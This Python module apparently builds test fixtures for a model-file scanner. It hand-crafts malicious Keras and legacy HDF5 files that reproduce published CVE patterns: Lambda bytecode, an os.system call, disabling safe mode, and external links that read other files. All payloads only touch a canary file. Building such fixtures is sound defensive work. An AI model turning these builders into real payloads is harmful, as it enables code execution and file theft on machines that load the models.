"""Files of Keras that attack: configurations that carry code, name it, or read files, and legacy HDF5.

Owns the writers. They write archives by hand, because Keras would not save these.
"""

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path
from typing import Any

from sample_models.hostile.attack import Attack, Stop
from storage.vocabulary import Format

KERAS_VERSION = "3.11.0"
"""What the handmade Keras archives say they were saved with; any version 3 would do."""

CANARY = "<canary>"
"""Stands in the Lambda's code where the path of the canary belongs."""


def described(class_name: str, config: dict[str, Any], module: str | None = "keras.layers") -> dict[str, Any]:
    """Return an object as a configuration of Keras describes it."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def network(*layers: dict[str, Any], dtype: str = "float32") -> dict[str, Any]:
    """Return the configuration of a network of two inputs and the given layers."""
    shape = [None, 2]
    first = described("InputLayer", {"batch_shape": shape, "dtype": dtype, "name": "input"})
    held = {"name": "hostile", "layers": [first, *layers], "build_input_shape": shape}
    return described("Sequential", held, "keras") | {"build_config": {"input_shape": shape}}


def no_weights() -> bytes:
    """Return an HDF5 file without weights: an attack runs, or is refused, before weights are read."""
    import h5py

    made = io.BytesIO()
    with h5py.File(made, "w"):
        # An empty one.
        pass
    return made.getvalue()


def archive(file: Path, config: dict[str, Any], weights: bytes) -> Path:
    """Write a Keras archive; without weights where they are empty."""
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("metadata.json", json.dumps({"keras_version": KERAS_VERSION, "date_saved": ""}))
        made.writestr("config.json", json.dumps(config))
        if weights:
            made.writestr("model.weights.h5", weights)
    return file


def lambda_layer(file: Path, canary: Path) -> Path:
    """Write a model with a Lambda layer, whose bytecode runs when the configuration is read."""
    function = {"class_name": "__lambda__", "config": _function(canary)}
    return archive(file, network(described("Lambda", {"name": "lambda", "function": function})), no_weights())


def named_function(file: Path, canary: Path) -> Path:
    """Write a model that names a function of Python and has it called as a layer (the shape of CVE-2025-1550)."""
    called = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
        "name": "called",
        "inbound_nodes": [{"args": [f"touch {canary}"], "kwargs": {}}],
    }
    first = described("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "input"})
    first |= {"name": "input", "inbound_nodes": []}
    held = {
        "name": "hostile",
        "layers": [first, called],
        "input_layers": [["input", 0, 0]],
        "output_layers": [["called", 0, 0]],
    }
    return archive(file, described("Functional", held, "keras.src.models.functional"), no_weights())


def own_function(file: Path, canary: Path) -> Path:
    """Write a model that has Keras' own loader of files called (the shape of CVE-2025-8747)."""
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    arguments = {"fname": canary.name, "origin": "file:///dev/null", "cache_dir": str(canary.parent)}
    layer = described("Lambda", {"name": "fetch", "function": function, "arguments": arguments})
    return archive(file, network(layer), no_weights())


def unlocking(file: Path, canary: Path) -> Path:
    """Write a model that turns Keras' safe mode off before its Lambda is read (the shape of CVE-2025-9906)."""
    function = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "enable_unsafe_deserialization",
    }
    activation = described("Activation", {"name": "unlock", "activation": function})
    code = {"class_name": "__lambda__", "config": _function(canary)}
    return archive(
        file, network(activation, described("Lambda", {"name": "lambda", "function": code})), no_weights()
    )


def second_model(file: Path, canary: Path) -> Path:
    """Write a model with a layer that loads a SavedModel of the attacker's choice."""
    config = {"name": "tfsm", "filepath": str(canary.parent), "call_endpoint": "serve"}
    return archive(file, network(described("TFSMLayer", config)), no_weights())


def vocabulary(file: Path, canary: Path) -> Path:
    """Write a model whose vocabulary is a file of somebody else's (the shape of CVE-2025-12058)."""
    layer = described("StringLookup", {"name": "lookup", "vocabulary": str(canary)})
    return archive(file, network(layer, dtype="string"), no_weights())


def weights_elsewhere(file: Path, canary: Path) -> Path:
    """Write a model whose weights are an array that HDF5 reads from another file (the shape of CVE-2026-1669)."""
    import h5py

    made = io.BytesIO()
    with h5py.File(made, "w") as weights:
        held = weights.create_group("layers/dense/vars")
        held.create_dataset("0", (2, 1), "float32", external=[(str(canary), 0, 8)])
        held.create_dataset("1", data=[0.0], dtype="float32")
    layer = described("Dense", {"name": "dense", "units": 1})
    return archive(file, network(layer), made.getvalue())


def legacy_lambda(file: Path, canary: Path) -> Path:
    """Write the Lambda as a legacy HDF5 file, for which Keras' own safe mode was without effect until 3.11.3."""
    function = {"class_name": "__lambda__", "config": _function(canary)}
    layer = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "function": function}}
    return _legacy(file, layer)


def legacy_link(file: Path, canary: Path) -> Path:
    """Write a legacy HDF5 file that has a part of another file among its own."""
    import h5py

    _legacy(file, {"class_name": "Dense", "config": {"name": "dense", "units": 1}})
    with h5py.File(file, "a") as written:
        written["model_weights/dense"] = h5py.ExternalLink(str(canary), "/")
    return file


def legacy_elsewhere(file: Path, canary: Path) -> Path:
    """Write a legacy HDF5 file with an array whose bytes are another file's."""
    import h5py

    _legacy(file, {"class_name": "Dense", "config": {"name": "dense", "units": 1}})
    with h5py.File(file, "a") as written:
        written.create_dataset("model_weights/kernel", (2, 1), "float32", external=[(str(canary), 0, 8)])
    return file


def _legacy(file: Path, layer: dict[str, Any]) -> Path:
    import h5py

    first = {"class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "input"}}
    config = {"class_name": "Sequential", "config": {"name": "hostile", "layers": [first, layer]}}
    with h5py.File(file, "w") as written:
        written.attrs["keras_version"], written.attrs["backend"] = KERAS_VERSION, "tensorflow"
        written.attrs["model_config"] = json.dumps(config)
        written.create_group("model_weights").attrs["layer_names"] = []
    return file


def _function(canary: Path) -> dict[str, Any]:
    """Return the bytecode of `_touch`, aimed at the canary, as Keras writes a function of its user's."""
    constants = tuple(str(canary) if value == CANARY else value for value in _touch.__code__.co_consts)
    code = marshal.dumps(_touch.__code__.replace(co_consts=constants))
    return {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None}


def _touch(inputs: Any) -> Any:
    # It runs with no names but Python's own; the path is put in its place when it is written.
    open("<canary>", "w").close()  # noqa: PTH123 - pathlib is no name of its own
    return inputs


CODE = "asks Keras to run code of its own (Lambda layer"

ATTACKS = (
    Attack(
        "lambda.keras",
        8,
        "a Keras Lambda layer: bytecode in the model's configuration (CVE-2024-3660)",
        lambda_layer,
        CODE,
        opens_as=Format.KERAS,
    ),
    Attack(
        "named.keras",
        9,
        "a configuration that has a function of Python called (CVE-2025-1550)",
        named_function,
        "asks for os.system, which no model needs",
        opens_as=Format.KERAS,
    ),
    Attack(
        "fetching.keras",
        9,
        "a configuration that has Keras' own download function called (CVE-2025-8747)",
        own_function,
        CODE,
        opens_as=Format.KERAS,
    ),
    Attack(
        "unlocking.keras",
        9,
        "a configuration that turns Keras' safe mode off (CVE-2025-9906)",
        unlocking,
        "asks for keras.config.enable_unsafe_deserialization, which no model needs",
        opens_as=Format.KERAS,
    ),
    Attack(
        "second.keras",
        9,
        "a layer that loads a second model, which no check sees",
        second_model,
        "asks Keras to run code of its own (TFSMLayer layer",
        opens_as=Format.KERAS,
    ),
    Attack(
        "vocabulary.keras",
        9,
        "a vocabulary that is a file of somebody else's (CVE-2025-12058)",
        vocabulary,
        "reads a vocabulary from the file",
        opens_as=Format.KERAS,
        reads=True,
    ),
    Attack(
        "elsewhere.keras",
        9,
        "weights that HDF5 reads from another file (CVE-2026-1669)",
        weights_elsewhere,
        "keeps 0 in another file",
        Stop.CHECKED,
        Format.KERAS,
        reads=True,
    ),
    Attack(
        "lambda.h5",
        10,
        "a Lambda layer in a legacy HDF5 file, which the engine does not open (CVE-2025-9905)",
        legacy_lambda,
        CODE,
        Stop.CHECKED,
        Format.KERAS_H5,
    ),
    Attack(
        "link.h5",
        10,
        "a legacy HDF5 file with a part of another file among its own",
        legacy_link,
        "reaches for something else through a link",
        Stop.CHECKED,
        Format.KERAS_H5,
        reads=True,
    ),
    Attack(
        "elsewhere.h5",
        10,
        "a legacy HDF5 file with an array whose bytes are another file's",
        legacy_elsewhere,
        "in another file",
        Stop.CHECKED,
        Format.KERAS_H5,
        reads=True,
    ),
)
